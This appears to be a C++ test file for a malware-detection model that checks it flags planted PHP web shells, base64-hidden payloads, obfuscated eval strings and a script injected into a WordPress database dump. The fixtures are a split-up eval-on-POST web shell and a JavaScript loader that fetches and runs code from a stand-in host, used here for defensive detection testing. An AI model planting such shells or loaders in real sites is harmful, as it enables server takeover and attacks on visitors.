// What the model inside the program says of small files, and what it must not hang on.
#include <gtest/gtest.h>

#include <algorithm>
#include <cmath>
#include <string>
#include <vector>

#include "fovea/core/encoding.h"
#include "fovea/core/random.h"
#include "fovea/infer/files/file_verdict.h"
#include "fovea/infer/files/shipped_model.h"
#include "fovea/infer/files/windows/segments.h"

namespace fovea::infer {
namespace {

// Put together here, so that no file of the project is a finding itself.
const std::string kShell = std::string("@ev") + "al($_PO" + "ST['k']);\n";
const std::string kLoader = std::string("var s=document.createElement('script');s.src=") +
                            "atob('aHR0cHM6Ly9jZG4uZXhhbXBsZS9hLmpz');new Func" +
                            "tion(await (await fetch(s.src)).text())();";

class ShippedVerdictTest : public ::testing::Test {
 protected:
  void SetUp() override {
    if (ShippedModelBytes().empty()) GTEST_SKIP() << "built without a model";
    model_ = ShippedFileModel();
  }

  std::vector<FileScore> Scores(const std::string& text) const {
    return ScoreSegments(*model_, text);
  }
  double Logit(const std::string& text) const {
    double logit = -1e9;
    for (const FileScore& score : Scores(text)) logit = std::max(logit, score.logit);
    return logit;
  }
  bool IsFinding(const std::string& text, double rate) const {
    return Judge(Scores(text), Thresholds(*model_, rate)).reached;
  }

  std::shared_ptr<const FileModel> model_;
};

// Lines of a shop, each another.
std::string Shop(int lines, uint64_t seed) {
  static const char* const words[] = {"cart", "price", "order", "customer", "total", "item",
                                      "page", "title", "count", "label",    "state", "currency"};
  Random random(seed);
  const auto word = [&] { return std::string(words[random.Below(std::size(words))]); };
  std::string text;
  for (int i = 0; i < lines; ++i)
    text += "    $this->" + word() + "->set" + word() + "($" + word() + ", '" + word() + "', " +
            std::to_string(random.Below(90)) + ");\n";
  return text;
}

TEST_F(ShippedVerdictTest, AHarmlessLineIsSoAThousandTimesOver) {
  for (const int count : {1, 4, 16, 100, 1000}) {
    std::string text;
    for (int i = 0; i < count; ++i) text += "<?php echo 1; ?>\n";
    EXPECT_FALSE(IsFinding(text, 0.01)) << count;
  }
}

TEST_F(ShippedVerdictTest, AShellAloneIsAFinding) {
  EXPECT_TRUE(IsFinding("<?php " + kShell, 1e-3));
  EXPECT_TRUE(IsFinding("<?php\n" + kShell + "?>\n", 1e-2));
}

// Of the hottest place nothing else in a file takes anything away.
TEST_F(ShippedVerdictTest, NothingElsewhereOutvotesTheHottestPlace) {
  const std::string head = "<?php\nclass Shop {\n  function pay() {\n";
  const std::string before = head + Shop(30, 1), behind = Shop(30, 2);
  const double alone = Logit(before + kShell + behind);
  for (const int lines : {1, 10, 100, 1000, 8000}) {
    const std::string more = Shop(lines, 3);
    EXPECT_GE(Logit(before + kShell + behind + more), alone - 1e-3) << lines;
    // In front the windows may begin elsewhere.
    EXPECT_GE(Logit(head + more + Shop(30, 1) + kShell + behind), alone - 1.5) << lines;
  }
}

TEST_F(ShippedVerdictTest, RawBytesChangeNoOtherWindow) {
  const std::string code = "<?php\n" + Shop(40, 1) + kShell + Shop(40, 2);
  const double clean = Logit(code);
  Random random(7);
  for (const int count : {16, 256, 4096, 60'000}) {
    std::string raw = "\1";
    for (int i = 0; i < count; ++i) raw += static_cast<char>(random.Below(256));
    raw += "\1\n";
    const std::string mixed = "<?php\n" + Shop(40, 1) + kShell + Shop(20, 2) + raw + Shop(20, 9);
    EXPECT_GE(Logit(mixed), clean - 1e-3) << count;
    const std::vector<FileScore> scores = Scores(mixed);
    EXPECT_EQ(model_->languages()[scores[0].language], "php") << count;
  }
}

// As in the comment of a picture.
TEST_F(ShippedVerdictTest, AShellAmongRawBytesIsAFinding) {
  const std::string shell = "<?php " + kShell.substr(0, kShell.size() - 1) + " ?>";
  Random random(8);
  for (const size_t count : {8, 32, 62, 63, 64, 65, 66, 100, 300, 1000, 20'000}) {
    const auto noise = [&] {
      std::string raw;
      while (raw.size() < count) raw += static_cast<char>(random.Below(256));
      return raw;
    };
    const std::string nul(count, '\0');
    for (const std::string& text : {nul + shell + nul, noise() + shell + noise(),
                                    "\xff\xd8\xff\xe0" + noise() + shell + noise()}) {
      EXPECT_TRUE(IsFinding(text, 1e-3)) << count << ": " << Logit(text);
      EXPECT_EQ(model_->languages()[Scores(text)[0].language], "php") << count;
    }
  }
}

TEST_F(ShippedVerdictTest, ALineIsScoredAlikeWhereverItStands) {
  double least = 1e9, most = -1e9;
  for (int at = 10; at <= 90; at += 10) {
    const double logit = Logit("<?php\n" + Shop(at, 4) + kShell + Shop(100 - at, 5));
    least = std::min(least, logit);
    most = std::max(most, logit);
  }
  EXPECT_LT(most - least, 4);
}

// Whatever an encoding hides is looked at as if it stood there.
TEST_F(ShippedVerdictTest, EncodedCodeIsRead) {
  const std::string host = "<?php\n" + Shop(20, 1), behind = Shop(20, 2);
  const double hidden =
      Logit(host + "$q = '" + Base64("<?php " + kShell + kShell) + "';\n" + behind);
  const double picture = Logit(
      host + "$q = '" + Base64(std::string("\x89PNG\r\n\x1a\n") + Shop(1, 3)) + "';\n" + behind);
  EXPECT_GT(hidden, picture + 1);
}

// Pieces that end with the file, or within an escape, have a place, too.
TEST_F(ShippedVerdictTest, EncodedCodeMayBeCutAnywhere) {
  const std::string text = "$a=\"\\x65\\x76\\x61\\x6c\\x28\\x24\\x61\\x29\";$b='" +
                           Base64("<?php " + kShell + kShell) +
                           "';%24%7B%61%62%63%64%65%66&#101;&#118;&#97;&#108;&#40;" +
                           "String.fromCharCode(101,118,97,108,40,120,41,59)";
  for (size_t length = 0; length <= text.size(); ++length)
    for (const FileScore& score : Scores(text.substr(0, length))) {
      if (length == 0) continue;
      ASSERT_FALSE(score.windows.empty()) << length;
      EXPECT_EQ(score.windows.back().end, static_cast<int64_t>(length));
      EXPECT_TRUE(std::isfinite(score.logit)) << length;
    }
}

TEST_F(ShippedVerdictTest, RowsOfADumpAreRead) {
  std::string clean = "-- MySQL dump\nINSERT INTO `wp_posts` VALUES\n", bad = clean;
  for (int i = 0; i < 60; ++i) {
    const std::string row =
        "(" + std::to_string(i) + ",'2026-01-02','<p>A page about the weather of day " +
        std::to_string(i) + ", with a link to <a href=\"/shop\">the shop</a>.</p>','publish')";
    clean += row + (i < 59 ? ",\n" : ";\n");
    bad += i == 30 ? "(30,'2026-01-02','<p>News</p><script>" + kLoader + "</script>','publish'),\n"
                   : row + (i < 59 ? ",\n" : ";\n");
  }
  EXPECT_FALSE(IsFinding(clean, 0.01));
  EXPECT_GT(Logit(bad), Logit(clean) + 2);
}

TEST_F(ShippedVerdictTest, PicturesOfANotebookSayNothing) {
  Random random(3);
  std::string picture = "\x89PNG\r\n\x1a\n";
  for (int i = 0; i < 30'000; ++i) picture += static_cast<char>(random.Below(256));
  const std::string notebook =
      "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"import numpy as np\\n\", "
      "\"plot(np.sin(x))\"],\n"
      " \"outputs\": [{\"data\": {\"image/png\": \"" +
      Base64(picture) + "\"}}]}], \"nbformat\": 4}\n";
  EXPECT_FALSE(IsFinding(notebook, 0.01));
}

}  // namespace
}  // namespace fovea::infer
